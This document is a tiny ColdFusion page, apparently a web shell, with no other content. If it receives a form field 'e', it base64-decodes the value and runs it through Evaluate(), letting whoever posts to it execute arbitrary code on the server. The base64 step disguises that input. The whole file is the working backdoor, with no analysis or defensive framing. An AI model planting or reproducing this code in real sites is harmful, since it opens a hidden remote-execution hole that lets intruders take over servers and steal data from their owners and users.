<cfsetting enablecfoutputonly="true">
<cfif isDefined("form.e")><cfoutput>#Evaluate(ToString(ToBinary(form.e)))#</cfoutput></cfif>
